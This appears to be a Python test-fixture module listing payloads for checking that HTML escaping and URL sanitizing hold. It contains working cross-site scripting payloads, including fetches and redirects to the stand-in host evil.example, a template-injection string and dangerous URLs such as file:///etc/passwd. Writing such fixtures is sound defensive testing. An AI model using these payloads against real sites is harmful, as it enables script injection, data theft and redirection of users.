"""Texts that do harm where they are not escaped. Each sets a mark that a test looks for, or asks for something from outside."""

from __future__ import annotations

_ACTS = (
    "document.documentElement.dataset.pwned=1",
    "fetch('//evil.example/x')",
    "alert(1)",
    "location='//evil.example/'",
)
_SHAPES = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    '<img src=x onerror="{act}">',
    '<svg onload="{act}">',
    "<svg><script>{act}</script></svg>",
    '"><script>{act}</script>',
    '\'><img src=x onerror="{act}">',
    '" onmouseover="{act}" autofocus onfocus="{act}" x="',
    "' onfocus='{act}' autofocus='",
    "</title><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</style><script>{act}</script>",
    "--><script>{act}</script><!--",
    "]]><script>{act}</script>",
    '<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
    '<details open ontoggle="{act}">',
    '<a href="javascript:{act}">x</a>',
    '<form action="javascript:{act}"><button autofocus>x</button></form>',
    '<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror="{act}">--></math>',
    '<body onload="{act}">',
    '<input autofocus onfocus="{act}">',
    '<marquee onstart="{act}">',
)
_OTHERS = (
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<img src=//evil.example/x.png>",
    "<object data=//evil.example/x></object>",
    "<style>@import url(//evil.example/x.css)</style>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<!--",
    "&lt;script&gt;&#x3c;script>&#0;",
    "\u202e<script>\u2066",
    "\ud800<b>",
    "\x00<script\x00>",
)
EACH_SHAPE = tuple(shape.replace("{act}", _ACTS[n % len(_ACTS)]) for n, shape in enumerate(_SHAPES)) + _OTHERS
PAYLOADS = tuple(shape.replace("{act}", act) for shape in _SHAPES for act in _ACTS) + _OTHERS
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x/1",
    "//evil.example/x",
    "https:evil",
    "http://",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/\\@good",
    "https://[bad",
    "",
)
